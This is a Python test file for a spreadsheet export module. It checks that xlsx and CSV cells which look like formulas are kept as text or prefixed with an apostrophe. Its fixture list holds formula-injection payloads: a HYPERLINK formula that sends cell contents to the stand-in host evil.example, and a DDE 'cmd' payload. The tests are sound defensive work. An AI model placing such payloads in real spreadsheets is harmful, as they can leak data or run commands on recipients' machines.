"""What Wushe writes into a spreadsheet is read as text: no cell a station opens runs as a formula."""

import csv
import io

from openpyxl import load_workbook

from services.case.imports.sheets import write_csv, write_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此领取")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]


def test_xlsx_cells_that_look_like_formulas_stay_text() -> None:
    content = write_xlsx([("心愿清单", ["心愿", "数量"], [[text, 1] for text in HOSTILE])])
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cells = [sheet.cell(row, 1) for row in range(2, 2 + len(HOSTILE))]
    assert [c.value for c in cells] == HOSTILE  # the text as written
    assert {c.data_type for c in cells} == {"s"} and all(c.quotePrefix for c in cells)
    assert sheet.cell(2, 2).value == 1 and sheet.cell(2, 2).data_type == "n"  # numbers stay numbers


def test_csv_cells_that_look_like_formulas_get_a_leading_apostrophe() -> None:
    content = write_csv(["心愿", "数量"], [[text, 1] for text in HOSTILE] + [["一台收音机", 2]])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == ["'" + text for text in HOSTILE] + ["一台收音机"]
